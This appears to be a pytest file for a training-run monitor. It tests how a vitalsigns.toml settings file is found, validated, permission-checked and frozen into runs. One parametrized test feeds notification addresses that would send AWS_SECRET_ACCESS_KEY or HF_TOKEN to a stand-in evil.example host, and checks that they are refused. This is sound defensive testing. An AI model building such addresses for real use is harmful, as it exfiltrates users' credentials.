"""`vitalsigns.toml`: thresholds of a project, frozen into the runs that are started in it."""

import grp
import os
import pwd
import re
import sys

import pytest

from monitor import launcher
from monitor.diagnosis.settings import Settings, refused_variables, settings_for
from monitor.diagnosis.verdict import judge
from monitor.rules.gap_limit import GapLimits
from monitor.rules.primary import primary_of
from monitor.rules.thresholds import CommonLimits
from monitor.run_dir import Launch
from monitor.run_dir.errors import UsageError
from monitor.run_dir.launch import read_launch
from monitor.run_dir.metric import WER, Metric
from monitor.run_dir.reader import RunReader
from monitor.supervisor.notify.letters import resolved
from tests.accounts import needs_root
from tests.snapshots import snapshot
from tests.supervised import FINISHES


def test_without_a_file_nothing_is_set(tmp_path):
    assert settings_for(tmp_path).thresholds == {} and settings_for(tmp_path).path is None


def test_the_nearest_file_above_counts(tmp_path):
    (tmp_path / "vitalsigns.toml").write_text("[thresholds]\ngap_limit = 0.5\n")
    inner = tmp_path / "project" / "scripts"
    inner.mkdir(parents=True)
    assert settings_for(inner).thresholds == {"gap_limit": 0.5}
    (tmp_path / "project" / "vitalsigns.toml").write_text("[thresholds]\nguard_evaluations = 4\n")
    assert settings_for(inner).thresholds == {"guard_evaluations": 4}


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[thresholds", "cannot be read"),
        (
            "[threshold]\nx = 1\n",
            r"\[threshold\] is unknown; allowed are \[thresholds\], \[notify\], \[devices\], \[metric\]",
        ),
        ("[thresholds]\ngap_limits = 1\n", "Known ones: guard_epochs"),
        ("[thresholds]\ngap_limit = 'much'\n", "holds numbers only"),
        ("[thresholds]\ngap_limit = true\n", "holds numbers only"),
        ("thresholds = 3\n", "holds numbers only"),
        ("[thresholds]\nguard_evaluations = 2.5\n", "Thresholds: "),
        ("[devices]\ncpu_runs = 0\n", "cpu_runs must be a whole number of at least 1"),
        ("[devices]\nruns_per_gpu = true\n", "runs_per_gpu must be a whole number"),
        ("[devices]\ngpus = 2\n", "gpus is unknown; allowed are runs_per_gpu, cpu_runs"),
        ("devices = 3\n", "must be a table with runs_per_gpu, cpu_runs"),
        ("[thresholds]\ngap_limit = 1e9\n", "`gap_limit` is 1e.09; allowed is 0 to 100"),
        ("[thresholds]\ngap_limit = -1\n", "`gap_limit` is -1; allowed is 0 to 100"),
        ("[thresholds]\ngap_limit = nan\n", "`gap_limit` is nan; allowed is 0 to 100"),
        ("[thresholds]\nwer_target_ratio = 1.5\n", "`wer_target_ratio` is 1.5; allowed is 0 to 1"),
        ("[metric]\nunit = 'raw'\n", r"\[metric\] must be a table with name, direction, unit, chance, target"),
        ("metric = 'val_cer'\n", r"\[metric\] must be a table with name, direction, unit, chance, target"),
        ("[metric]\nname = ''\n", r"\[metric\] name must be a name such as val_cer"),
        ("[metric]\nname = 'val_cer'\nkind = 1\n", r"\[metric\] kind is unknown; allowed are name, direction"),
        ("[metric]\nname = 'val_cer'\ndirection = 'up'\n", r"\[metric\] direction must be error or score"),
        ("[metric]\nname = 'val_cer'\nunit = '%'\n", r"\[metric\] unit must be fraction, percent, raw or auto"),
        ("[metric]\nname = 'val_zap'\n", "'val_zap' is not a known metric: name it an error"),
        ("[metric]\nname = 'val_cer'\nunit = 'fraction'\nchance = 90\n", "chance 90 must lie between 0 and 1"),
        ("[metric]\nname = 'val_cer'\nchance = nan\n", "chance nan must be a number"),
        ("x = " + "[" * 50_000, "cannot be read"),
        ("\xff", "cannot be read"),
        ("#" * 300_000, "larger than 256 KiB"),
    ],
)
def test_a_file_that_cannot_be_used_is_left_out_and_named_in_one_sentence(tmp_path, text, says):
    (tmp_path / "vitalsigns.toml").write_bytes(text.encode("latin-1"))
    found = settings_for(tmp_path)
    assert found == Settings(problem=found.problem)
    assert re.match(rf"{re.escape(str(tmp_path))}/vitalsigns\.toml.*{says}", found.problem)
    assert found.problem.endswith("It is left out, so the defaults are in force.")


def test_they_are_frozen_at_the_start_and_later_changes_do_not_reach_the_run(tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    (project / "vitalsigns.toml").write_text("[thresholds]\ngap_limit = 0.25\n")
    runs = tmp_path / "runs"
    run_id = launcher.start(runs, [sys.executable, "-c", FINISHES], name="r", cwd=project)
    (project / "vitalsigns.toml").write_text("[thresholds]\ngap_limit = 9\n")
    launch = read_launch(runs / run_id)
    assert launch is not None and launch.thresholds == {"gap_limit": 0.25}
    seen = RunReader(runs / run_id).read(0.0)
    assert judge(seen, 0.0).thresholds.of(GapLimits).gap_limit == 0.25


def test_the_metric_that_decides_is_frozen_at_the_start_and_a_child_is_judged_by_its_parents(tmp_path):
    (tmp_path / "vitalsigns.toml").write_text('[metric]\nname = "val_zap"\ndirection = "score"\ntarget = 3\n')
    run_id = launcher.start(tmp_path / "runs", [sys.executable, "-c", FINISHES], name="r", cwd=tmp_path)
    (tmp_path / "vitalsigns.toml").unlink()
    zap = Metric("val_zap", "score", "auto", target=3.0, primary=True)
    assert read_launch(tmp_path / "runs" / run_id).metric == zap
    launcher.judge_by(tmp_path / "runs" / run_id, Metric("val_loss"), "ana", 0.0)
    assert launcher.plan_restart(tmp_path / "runs", run_id, {}).metric == Metric("val_loss")
    launcher.judge_by(tmp_path / "runs" / run_id, None, "ana", 0.0)
    assert launcher.plan_restart(tmp_path / "runs", run_id, {}).metric == zap


def test_a_metric_of_the_settings_decides_only_where_it_is_logged():
    launch = Launch(run_id="r", created_at=0.0, metric=Metric("val_cer", "error", "auto", primary=True))
    logged = snapshot(
        val_loss=[1.0] * 3, val_wer=[0.5] * 3, metrics=[{"val_cer": cer} for cer in (41.0, 40.0, 39.0)], launch=launch
    )
    assert (primary_of(logged).title, primary_of(logged).unit) == ("val CER", "percent")
    assert primary_of(snapshot(val_loss=[1.0] * 3, val_wer=[0.5] * 3, launch=launch)) is WER


@pytest.mark.parametrize("kind", ["wrong", "unreadable", "huge", "pipe", "device", "folder"])
def test_a_file_that_cannot_be_used_blocks_no_start(tmp_path, kind, caplog):
    planted = tmp_path / "vitalsigns.toml"
    planted.write_text("[thresholds]\nnonsense = 1\n")
    if kind == "unreadable":
        planted.chmod(0)
    elif kind == "huge":
        os.truncate(planted, 2**40)
    elif kind != "wrong":
        planted.unlink()
        {"pipe": os.mkfifo, "device": lambda at: at.symlink_to("/dev/zero"), "folder": os.mkdir}[kind](planted)
    run_id = launcher.start(tmp_path / "runs", [sys.executable, "-c", FINISHES], name="r", cwd=tmp_path)
    assert read_launch(tmp_path / "runs" / run_id).thresholds == {}
    assert str(planted) in caplog.text and caplog.text.count("It is left out") == 1


def test_what_a_run_has_kept_beyond_the_bounds_is_not_in_force():
    launch = Launch(run_id="r", created_at=0.0, thresholds={"gap_limit": 1e9, "guard_evaluations": 4})
    judged = judge(snapshot(val_loss=[1.0] * 9, launch=launch), 0.0)
    assert judged.thresholds.of(GapLimits) == GapLimits()
    assert judged.thresholds.of(CommonLimits).guard_evaluations == 4


GIVEN = {"gap_limit": 0.5}


def planted(folder, mode=0o644, owner=0, link=False):
    """A settings file of `owner` with `mode`, in itself without fault."""
    at = folder / ("elsewhere.toml" if link else "vitalsigns.toml")
    at.write_text("[thresholds]\ngap_limit = 0.5\n")
    at.chmod(mode)
    if owner:
        os.chown(at, owner, owner)
    if link:
        (folder / "vitalsigns.toml").symlink_to(at)
    return folder


@pytest.mark.parametrize(
    ("file_mode", "folder_mode", "says"),
    [
        (0o600, 0o700, ""),
        (0o644, 0o755, ""),
        (0o666, 0o755, "everybody may write .*vitalsigns.toml"),
        (0o644, 0o777, "everybody may write .*shared"),
        (0o644, 0o1777, "everybody may write .*shared"),
    ],
)
def test_a_file_counts_where_nobody_else_could_have_written_it(tmp_path, file_mode, folder_mode, says):
    shared = tmp_path / "shared"
    (shared / "project").mkdir(parents=True)
    planted(shared, file_mode)
    shared.chmod(folder_mode)
    found = settings_for(shared / "project")
    assert found.thresholds == ({} if says else GIVEN)
    assert re.search(f"{says}.* It is left out", found.problem) if says else found.problem == ""


def test_one_that_others_wrote_does_not_hide_the_users_own_above_it(tmp_path):
    planted(tmp_path)
    inner = tmp_path / "inner"
    inner.mkdir()
    (planted(inner) / "vitalsigns.toml").write_text("[thresholds]\ngap_limit = 99\n")
    inner.chmod(0o1777)
    found = settings_for(inner)
    assert (found.thresholds, found.path) == (GIVEN, tmp_path / "vitalsigns.toml")
    assert str(inner) in found.problem


def test_a_project_of_ones_own_may_stand_in_a_folder_with_the_sticky_bit(tmp_path):
    (tmp_path / "sticky" / "project").mkdir(parents=True)
    (tmp_path / "sticky").chmod(0o1777)
    assert settings_for(planted(tmp_path / "sticky" / "project")).thresholds == GIVEN
    (tmp_path / "sticky").chmod(0o777)  # without it anybody may put another project in its place
    assert settings_for(tmp_path / "sticky" / "project").thresholds == {}


@pytest.mark.parametrize("group_mode", [0o664, 0o775])
def test_a_group_of_ones_own_may_write_and_any_other_may_not(tmp_path, group_mode):
    """With umask 002, the usual one where each user has a group of his own, files and folders are made so."""
    own = grp.getgrgid(os.getgid())
    if own.gr_name != pwd.getpwuid(os.getuid()).pw_name or set(own.gr_mem) - {own.gr_name}:
        pytest.skip("THIS ACCOUNT HAS NO GROUP OF ITS OWN: what such a group may do is not tried")
    planted(tmp_path, group_mode)
    tmp_path.chmod(0o775)
    assert settings_for(tmp_path).thresholds == GIVEN
    if os.geteuid() == 0:
        os.chown(tmp_path / "vitalsigns.toml", 0, 12_345)
        assert re.search("a group may write", settings_for(tmp_path).problem)


def test_another_users_file_is_not_obeyed(tmp_path):
    needs_root()
    found = settings_for(planted(tmp_path, owner=54_321))
    assert found.thresholds == {} and "belongs to user 54321" in found.problem
    (tmp_path / "vitalsigns.toml").unlink()
    found = settings_for(planted(tmp_path, owner=54_321, link=True))
    assert found.thresholds == {} and "belongs to user 54321" in found.problem


@pytest.mark.parametrize(
    ("address", "refused"),
    [
        ("ntfy://${VITALSIGNS_TOPIC}", []),
        ("ntfy://${TOPIC}", []),
        ("${ANY_ADDRESS}", []),
        ("json://evil.example/${AWS_SECRET_ACCESS_KEY}", ["AWS_SECRET_ACCESS_KEY"]),
        ("json://${HF_TOKEN}@evil.example/${VITALSIGNS_TOPIC}", ["HF_TOKEN"]),
        ("${A}${B}", ["A", "B"]),
    ],
)
def test_an_address_holds_only_variables_that_the_user_has_meant_for_it(tmp_path, address, refused, monkeypatch):
    monkeypatch.setenv("VITALSIGNS_VARIABLES", "OTHER, TOPIC")
    assert refused_variables(address, os.environ) == refused
    (tmp_path / "vitalsigns.toml").write_text(f'[notify]\naddresses = ["{address}"]\n')
    found = settings_for(tmp_path)
    assert found.notify.addresses == (address,)
    assert bool(found.problem) == bool(refused) and all(name in found.problem for name in refused)
    if refused:
        with pytest.raises(UsageError, match=refused[0]):
            resolved(address, dict.fromkeys(("A", "B", "HF_TOKEN", "AWS_SECRET_ACCESS_KEY"), "secret"))


def test_how_many_runs_share_a_device_is_a_matter_of_the_project(tmp_path):
    assert (settings_for(tmp_path).devices.runs_per_gpu, settings_for(tmp_path).devices.cpu_runs) == (1, None)
    (tmp_path / "vitalsigns.toml").write_text("[devices]\ncpu_runs = 2\n")
    assert (settings_for(tmp_path).devices.runs_per_gpu, settings_for(tmp_path).devices.cpu_runs) == (1, 2)
